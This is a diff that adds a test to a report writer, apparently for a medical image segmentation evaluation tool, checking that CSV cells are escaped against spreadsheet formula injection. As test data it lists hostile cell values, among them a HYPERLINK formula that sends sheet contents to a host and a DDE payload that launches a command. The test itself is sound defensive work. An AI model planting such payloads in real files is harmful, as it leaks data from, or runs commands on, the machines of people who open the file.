@@ -256,6 +256,24 @@ def test_the_report_files_are_utf8_whatever_the_locale(tmp_path):
     assert "| Rückenmark | 1 | 0.800 |" in (tmp_path / "report.md").read_text(encoding="utf-8")
 
 
+def test_text_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_and_numbers_stay_numbers(tmp_path):
+    """A manifest's case id or structure starting with = + - @ (CSV injection: `=HYPERLINK(...)` sends the sheet's
+    cells to a host when per_case.csv is opened in Excel or LibreOffice) was written as it was, a formula (session 23).
+    Now such a cell starts with a single quote (OWASP's rule); a case id that is a plain number, the metrics and a
+    name with a dash inside are written as before."""
+    hostile = ['=HYPERLINK("http://host/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
+               "\r=1+1"]
+    rows = [StepRow(h, h, 0, 0.8, 0.7, 3.0, 0.8, 0.5, {}) for h in hostile]
+    rows += [StepRow("-5", "left-kidney", 0, 0.8125, 0.5, 12.5, 1.0, 0.25, {})]
+    one = EvalRun(rows=rows, settings=EvalSettings(parse_protocol("box")), model="litemedsam", manifest="m.csv",
+                  attributes=[], n_cases=len(rows))
+    write_report(one, tmp_path)
+    with open(tmp_path / "per_case.csv", newline="", encoding="utf-8") as f:
+        got = list(csv.reader(f))[1:]
+    assert [r[:2] for r in got[:-1]] == [["'" + h, "'" + h] for h in hostile]
+    assert got[-1] == ["-5", "left-kidney", "0", "0.8125", "0.5", "12.5", "1", "0.25"]
+
+
 def test_the_plots_are_written_at_their_size(tmp_path):
     """Pixel sizes of the PNGs report.md embeds: 7.5 x 4.5 in and 6.5 x 4 in at 110 dpi."""
     from PIL import Image
